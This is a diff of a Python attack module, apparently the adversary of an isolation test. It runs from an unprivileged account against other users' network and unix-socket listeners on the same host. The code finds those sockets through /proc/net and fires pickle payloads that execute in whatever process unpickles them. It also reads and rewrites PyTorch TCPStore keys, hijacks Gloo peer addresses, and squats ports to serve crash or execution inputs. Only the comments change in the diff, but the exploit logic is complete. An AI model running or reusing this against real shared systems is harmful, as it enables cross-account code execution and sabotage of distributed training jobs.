@@ -1,4 +1,4 @@
-"""What an account without rights can try against the listeners of others: see adversary.py. Stdlib only."""
+"""Attack other accounts' listeners from an account without rights. See adversary.py. Stdlib only."""
 
 from __future__ import annotations
 
@@ -17,22 +17,23 @@ if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
 
 LISTENING = "0A"
-ACCEPTS = "00010000"  # a unix socket that listens
+ACCEPTS = "00010000"  # the flag of a listening unix socket
 SHOOTERS = 8
 FAST = 0.03
-KEPT = 200  # bytes of a value
-RUSH = 0.002  # between two looks into a store
+KEPT = 200  # bytes of a value that are kept
+RUSH = 0.002  # seconds between two queries of a store
 PATIENCE = 0.5
 LARGEST = 1 << 16
 # torch/csrc/distributed/c10d/TCPStoreBackend.hpp
 VALIDATE, SET, GET, LIST = 0, 1, 3, 17
 MAGIC = 0x3C85F7CE
-# In what a rank leaves for Gloo's others: the family of a socket's address, and its port.
+# In the data that a rank leaves for Gloo's other ranks: the family of a socket's address, and its
+# port.
 ADDRESS = re.compile(rb"(\x02\x00)(..)(?=\x0a)", re.DOTALL)
 
 
 class Listener(NamedTuple):
-    """A socket of somebody else's."""
+    """A listening socket of another account."""
 
     kind: str
     address: str
@@ -41,7 +42,7 @@ class Listener(NamedTuple):
 
 
 class Payload:
-    """What runs where it is unpickled."""
+    """Runs code in the process that unpickles it."""
 
     def __init__(self, text: str) -> None:
         self.text = text
@@ -51,15 +52,15 @@ class Payload:
 
 
 def address_of(text: str) -> str:
-    """An address of /proc/net, as it is spoken to from here."""
+    """Return the address in a line of /proc/net, as a client here connects to it."""
     words = [struct.pack("=I", int(text[at : at + 8], 16)) for at in range(0, len(text), 8)]
     raw = b"".join(words)
     shown = socket.inet_ntop(socket.AF_INET if len(raw) == 4 else socket.AF_INET6, raw)
-    return {"0.0.0.0": "127.0.0.1", "::": "::1"}.get(shown, shown)  # noqa: S104 (compared)
+    return {"0.0.0.0": "127.0.0.1", "::": "::1"}.get(shown, shown)  # noqa: S104 (a comparison)
 
 
 def bound(me: int) -> Iterator[Listener]:
-    """Every socket of somebody else's that waits for others."""
+    """List every listening socket of another account."""
     for kind in ("tcp", "tcp6", "udp", "udp6"):
         with contextlib.suppress(OSError), open(f"/proc/net/{kind}") as table:
             for line in table.read().splitlines()[1:]:
@@ -75,19 +76,19 @@ def bound(me: int) -> Iterator[Listener]:
 
 
 def framed(raw: bytes) -> bytes:
-    """Bytes as torch's store sends them."""
+    """Encode bytes as torch's store sends them."""
     return struct.pack("=Q", len(raw)) + raw
 
 
 class Store:
-    """As much of a client of torch's store as an intruder needs; torch's own takes seconds to load."""
+    """A minimal client of torch's store. Torch's own takes seconds to load."""
 
     def __init__(self, address: str, port: int) -> None:
         self.sock = socket.create_connection((address, port), timeout=PATIENCE)
         self.sock.sendall(bytes([VALIDATE]) + struct.pack("=I", MAGIC))
 
     def exactly(self, size: int) -> bytes:
-        """So many bytes of an answer."""
+        """Read a number of bytes of an answer."""
         found = b""
         while len(found) < size:
             more = self.sock.recv(size - len(found))
@@ -97,7 +98,7 @@ class Store:
         return found
 
     def get(self, key: str) -> bytes:
-        """A key's value."""
+        """Return the value of a key."""
         self.sock.sendall(bytes([GET]) + framed(key.encode()))
         return self.exactly(min(LARGEST, struct.unpack("=Q", self.exactly(8))[0]))
 
@@ -106,7 +107,7 @@ class Store:
         self.sock.sendall(bytes([SET]) + framed(key.encode()) + framed(value))
 
     def names(self) -> list[str]:
-        """Every key, where this torch tells them."""
+        """List every key, if this version of torch supports it."""
         self.sock.sendall(bytes([LIST]))
         count = struct.unpack("=Q", self.exactly(8))[0]
         sizes = (struct.unpack("=Q", self.exactly(8))[0] for _ in range(min(count, 1000)))
@@ -114,7 +115,7 @@ class Store:
 
 
 class Network:
-    """Every listener, as soon as it is there."""
+    """The attack on every new listener."""
 
     def __init__(
         self,
@@ -127,7 +128,7 @@ class Network:
         settings["disturb"] = tuple(settings["disturb"])
 
     def payload(self, name: str) -> bytes:
-        """A pickle that leaves a mark of whoever loads it."""
+        """Return a pickle that leaves a mark of the account that loads it."""
         won = self.settings["won"]
         text = (
             f"import os\nif os.getuid() != {self.me}:"
@@ -136,7 +137,7 @@ class Network:
         return pickle.dumps(Payload(text))
 
     def shots(self, name: str) -> Iterator[bytes]:
-        """What a parser might trip over, or run."""
+        """Yield inputs that a parser might crash on or execute."""
         raw = self.payload(name)
         yield raw
         yield struct.pack("<Q", len(raw)) + raw
@@ -150,11 +151,11 @@ class Network:
         validated = bytes([VALIDATE]) + struct.pack("=I", MAGIC)
         yield validated + bytes([SET]) + struct.pack("=Q", 1 << 62)
         yield validated + bytes([250])
-        # Gloo: the number of the pair that is waited for
+        # Gloo: the number of the expected pair
         yield from (struct.pack("=q", pair) + b"\x7f" * 48 for pair in (0, 1, 2))
 
     def listeners(self) -> None:
-        """Shoot at what is new."""
+        """Attack new listeners."""
         known: set[str] = set()
         with ThreadPoolExecutor(SHOOTERS) as pool:
             while True:
@@ -165,7 +166,7 @@ class Network:
                 time.sleep(FAST)
 
     def shoot(self, one: Listener) -> None:
-        """All shots at one listener, each by a connection of its own."""
+        """Send all inputs to one listener, each on its own connection."""
         name = f"{one.kind}-{one.port}"
         for number, shot in enumerate(self.shots(name)):
             with contextlib.suppress(OSError, ValueError):
@@ -176,7 +177,7 @@ class Network:
 
     @staticmethod
     def send(one: Listener, shot: bytes) -> bytes:
-        """One shot, and what comes back."""
+        """Send one input. Return the answer."""
         family = socket.AF_INET6 if one.kind.endswith("6") else socket.AF_INET
         family = socket.AF_UNIX if one.kind == "unix" else family
         kind = socket.SOCK_DGRAM if one.kind.startswith("udp") else socket.SOCK_STREAM
@@ -187,20 +188,20 @@ class Network:
             return sock.recv(LARGEST)
 
     def stores(self) -> None:
-        """Speak to torch's store wherever one may be, for as long as it is there."""
+        """Query torch's store at every possible address, as long as it exists."""
         with ThreadPoolExecutor(len(self.settings["stores"])) as pool:
             for address, port in self.settings["stores"]:
                 pool.submit(self.keep_asking, address, port)
 
     def keep_asking(self, address: str, port: int) -> None:
-        """Wait for one store, and talk to it until it is gone."""
+        """Wait for one store, and query it until it is gone."""
         while True:
             with contextlib.suppress(OSError, struct.error):
                 self.talk(Store(address, port), f"{address} {port}")
             time.sleep(FAST)
 
     def talk(self, store: Store, where: str) -> None:
-        """Ask for all that a run of torch's keeps there; where that is wanted, change it."""
+        """Read all keys that a run of torch keeps there. Change them if configured."""
         written: set[str] = set()
         with store.sock:
             while True:
@@ -214,13 +215,13 @@ class Network:
                 time.sleep(RUSH)
 
     def bent(self, value: bytes) -> bytes:
-        """Lead a Gloo address to a port of ours; anything else becomes a pickle."""
+        """Redirect a Gloo address to one of our ports, and turn any other value into a pickle."""
         squat = self.settings["squat"]
         found = ADDRESS.sub(b"\\1" + struct.pack("!H", squat[-1]) if squat else b"\\1\\2", value)
         return found if squat and found != value else self.payload("store")
 
     def squat(self) -> None:
-        """Be somebody else: take ports, and answer whoever comes with what might run or crash him."""
+        """Take free ports, and answer each client with data that might crash it or run in it."""
         socks = []
         for port in self.settings["squat"]:
             sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
